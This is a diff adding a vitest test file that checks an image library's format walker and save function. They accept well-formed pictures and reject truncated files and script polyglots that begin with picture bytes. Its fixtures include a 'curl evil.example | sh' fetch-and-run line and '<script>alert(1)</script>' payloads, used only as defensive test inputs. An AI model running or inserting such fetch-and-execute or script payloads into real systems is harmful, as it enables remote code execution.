@@ -1,0 +1,150 @@
+import { mkdtemp, readdir, rm } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import { fetchTransport } from '../../src/host/fetch-transport.ts';
+import { type MediaType, sniffMediaType } from '../../src/image/media-type.ts';
+import { createImage } from '../../src/image/picture.ts';
+import { followPicture } from '../../src/image/walk.ts';
+import { saveImage } from '../../src/node/save-image.ts';
+import { toPng } from '../pictures.ts';
+
+type Format = 'png' | 'jpeg' | 'webp' | 'gif' | 'avif';
+type Pipeline = Record<Format, (options?: object) => { toBuffer(): Promise<Buffer> }>;
+type Sharp = (input: object, options?: object) => Pipeline & { withMetadata(options: object): Pipeline };
+const sharp: Sharp = createRequire(new URL('../../../emulator/package.json', import.meta.url))('sharp');
+
+const noise = { type: 'gaussian', mean: 128, sigma: 60 };
+const canvas = (width = 96, height = 64) =>
+  sharp({ create: { width, height, channels: 3, background: '#369', noise } });
+
+const files: [string, () => Promise<Buffer>][] = [
+  ['a PNG', () => canvas().png().toBuffer()],
+  ['a PNG with a palette', () => canvas().png({ palette: true }).toBuffer()],
+  ['a JPEG', () => canvas().jpeg().toBuffer()],
+  ['a progressive JPEG', () => canvas().jpeg({ progressive: true, quality: 95 }).toBuffer()],
+  [
+    'a JPEG with EXIF',
+    () =>
+      canvas()
+        .withMetadata({ exif: { IFD0: { Copyright: 'x' } } })
+        .jpeg()
+        .toBuffer(),
+  ],
+  ['a WebP', () => canvas().webp({ quality: 40 }).toBuffer()],
+  ['a WebP without losses', () => canvas(31, 7).webp({ lossless: true }).toBuffer()],
+  [
+    'a WebP with metadata',
+    () =>
+      canvas()
+        .withMetadata({ exif: { IFD0: { Copyright: 'x' } } })
+        .webp()
+        .toBuffer(),
+  ],
+  ['a GIF', () => canvas().gif().toBuffer()],
+  ['an AVIF', () => canvas().avif().toBuffer()],
+];
+
+const typeOf = (file: Uint8Array): MediaType => sniffMediaType(file) ?? expect.fail('no picture at all');
+
+/** Whether a file passes for a picture, given in pieces of this length. */
+function isPicture(file: Uint8Array, length = file.length): boolean {
+  const follow = followPicture(typeOf(file));
+  for (let start = 0; start < file.length; start += length) {
+    if (!follow(file.subarray(start, start + length))) return false;
+  }
+  return follow();
+}
+
+describe.each(files)('%s', (_, make) => {
+  test('is followed to its end, in whatever pieces it comes', async () => {
+    const file = await make();
+    for (const length of [file.length, 1, 2, 3, 7, 64, 1000])
+      expect([length, isPicture(file, length)]).toEqual([length, true]);
+  });
+
+  test('is not one when it is cut', async () => {
+    const file = await make();
+    // The last byte of a WebP may be missing where it only makes the length even.
+    const wholes = Array.from({ length: file.length - 32 }, (__, cut) => cut + 31).filter((cut) =>
+      isPicture(file.subarray(0, cut)),
+    );
+    expect(wholes.filter((cut) => cut < file.length - 1)).toEqual([]);
+  });
+
+  test('may have something behind it', async () => {
+    const file = await make();
+    expect(isPicture(Buffer.concat([file, Buffer.from('\n--\nsigned by its camera')]), 11)).toBe(true);
+  });
+
+  test.each([
+    '\n#!/bin/sh\ncurl evil.example | sh\n',
+    '=1;\nalert(1)//',
+    '\0\0\0\0'.repeat(9),
+    '<script>alert(1)</script>',
+  ])('is not one when its first bytes stand before %j', async (script) => {
+    const file = await make();
+    for (const length of [12, 16]) {
+      for (const times of [1, 200]) {
+        const fake = Buffer.concat([file.subarray(0, length), Buffer.from(script.repeat(times))]);
+        expect([length, times, isPicture(fake)]).toEqual([length, times, false]);
+      }
+    }
+  });
+});
+
+test('bytes of any kind behind the beginning of a picture are followed without throwing, and to an end', async () => {
+  const heads = await Promise.all(files.map(async ([, make]) => [...(await make()).subarray(0, 40)]));
+  fc.assert(
+    fc.property(
+      fc.constantFrom(...heads),
+      fc.uint8Array({ maxLength: 300 }),
+      fc.integer({ min: 1, max: 50 }),
+      (head, tail, length) => {
+        const file = Uint8Array.from([...head, ...tail]);
+        expect(isPicture(file, length)).toBe(isPicture(file));
+      },
+    ),
+    { numRuns: 1000 },
+  );
+});
+
+describe('a script that begins like a picture', () => {
+  const job = { provider: 'fake', modelId: 'x/y', id: 'j1' };
+  const script = Buffer.from('GIF89a=1;\n#!/bin/sh\ncurl evil.example | sh\n');
+  const imageOf = (bytes: Uint8Array) =>
+    createImage({
+      ...{ output: { url: 'https://93.184.216.34/a.png' }, job, seed: undefined, local: false },
+      transport: fetchTransport(async () => new Response(new Uint8Array(bytes))),
+      refresh: async () => undefined,
+    });
+  const invalid = { code: 'invalid_response', reason: 'output_invalid', billed: 'yes', stage: 'download', job };
+
+  async function folder(): Promise<string> {
+    const path = await mkdtemp(join(tmpdir(), 'imageport-walk-'));
+    onTestFinished(() => rm(path, { recursive: true }));
+    return path;
+  }
+
+  test.each([
+    ['small', script],
+    ['large', Buffer.concat([script, Buffer.alloc(100_000, '# nothing\n')])],
+    ['a picture that breaks off', toPng(50_000).subarray(0, 40_000)],
+    [
+      'a picture that goes on as something else',
+      Buffer.concat([toPng(40_000).subarray(0, -12), Buffer.alloc(40_000, 'sh\n')]),
+    ],
+  ])('is not saved: %s', async (_, bytes) => {
+    const path = await folder();
+    await expect(saveImage(imageOf(bytes), join(path, 'a.png'))).rejects.toMatchObject(invalid);
+    expect(await readdir(path)).toEqual([]);
+  });
+
+  test('is not handed over as bytes either, and the picture has no type', async () => {
+    const image = imageOf(script);
+    await expect(image.bytes()).rejects.toMatchObject(invalid);
+    expect(image.mediaType).toBeUndefined();
+  });
+});
